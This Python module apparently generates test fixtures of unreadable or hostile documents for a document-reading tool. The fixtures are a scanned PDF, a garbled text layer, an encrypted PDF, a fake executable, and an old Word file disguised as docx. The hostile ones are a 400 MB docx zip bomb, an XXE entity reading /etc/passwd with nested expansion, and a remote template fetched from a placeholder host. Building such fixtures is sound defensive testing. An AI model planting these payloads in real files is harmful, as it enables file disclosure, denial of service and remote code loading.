"""Files that no reader should try to read, made small: each says nothing or does harm."""

import zipfile
from io import BytesIO
from pathlib import Path

from PIL import Image, ImageDraw
from pypdf import PdfReader, PdfWriter
from weasyprint import HTML

OLD_WORD = bytes.fromhex("d0cf11e0a1b11ae1")
BOMB_BYTES = 400_000_000
WORDS = "Uy ban nhan dan tinh ban hanh Ke hoach nang cao Chi so PAPI"
ENTITIES = (
    '<!DOCTYPE a [<!ENTITY b "ha ha"><!ENTITY c SYSTEM "file:///etc/passwd">'
    '<!ENTITY d "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;">]>'
)
REMOTE_TEMPLATE = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships '
    'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://papi.example/mau.dotm" TargetMode="External"/></Relationships>'
)


def build(folder: Path, *, plain: Path) -> dict[str, Path]:
    """Make the files in `folder`; `plain` is a docx that is well."""
    files = {
        "r1_anh_quet": (folder / "r1_anh_quet.pdf", _scan()),
        "r2_lop_chu_hong": (folder / "r2_lop_chu_hong.pdf", _garbage()),
        "r3_bom_nen": (folder / "r3_bom_nen.docx", _bomb(plain)),
        "r4_co_mat_khau": (folder / "r4_co_mat_khau.pdf", _locked()),
        "r5_chuong_trinh": (folder / "r5_chuong_trinh.docx", b"MZ\x90\x00" + bytes(4_000)),
        "r6_word_cu": (
            folder / "r6_word_cu.docx",
            OLD_WORD + bytes(4_000),
        ),
        "r7_thuc_the_ngoai": (folder / "r7_thuc_the_ngoai.docx", _with_entities(plain)),
        "r8_mau_tu_xa": (folder / "r8_mau_tu_xa.docx", _with_remote_template(plain)),
    }
    for path, content in files.values():
        path.write_bytes(content)
    return {name: path for name, (path, _content) in files.items()}


def _scan() -> bytes:
    """A page that is a picture of text and nothing else."""
    page = Image.new("L", (1_240, 1_754), 255)
    draw = ImageDraw.Draw(page)
    for line in range(30):
        draw.text((120, 120 + 40 * line), f"{line + 1}. {WORDS}", fill=0)
    held = BytesIO()
    page.save(held, "PDF", resolution=150)
    return held.getvalue()


def _garbage() -> bytes:
    """A page whose text layer has lost its meaning, as with a font without a map to Unicode."""
    lost = "".join(letter if letter == " " else chr(ord(letter) + 0x1E0) for letter in WORDS)
    return _pdf("".join(f"<p>{lost}</p>" for _ in range(30)))


def _locked() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(_pdf(f"<p>{WORDS}</p>"))))
    writer.encrypt("mat-khau-rieng", algorithm="RC4-128")
    held = BytesIO()
    writer.write(held)
    return held.getvalue()


def _pdf(body: str) -> bytes:
    content: bytes = HTML(string=body).write_pdf()
    return content


def _bomb(plain: Path) -> bytes:
    """A docx of half a megabyte whose text unfolds to 400 MB."""
    held = BytesIO()
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != "word/document.xml":
                new.writestr(name, old.read(name))
        with new.open("word/document.xml", "w") as document:
            for _ in range(BOMB_BYTES // 1_000_000):
                document.write(b" " * 1_000_000)
    return held.getvalue()


def _with_entities(plain: Path) -> bytes:
    with zipfile.ZipFile(plain) as old:
        document = old.read("word/document.xml").decode()
    declared = document.replace("?>", f"?>{ENTITIES}", 1).replace("<w:t>", "<w:t>&c;&e;", 1)
    return _replaced(plain, {"word/document.xml": declared.encode()})


def _with_remote_template(plain: Path) -> bytes:
    return _replaced(plain, {"word/_rels/settings.xml.rels": REMOTE_TEMPLATE.encode()})


def _replaced(plain: Path, parts: dict[str, bytes]) -> bytes:
    held = BytesIO()
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.pop(name, None) or old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return held.getvalue()
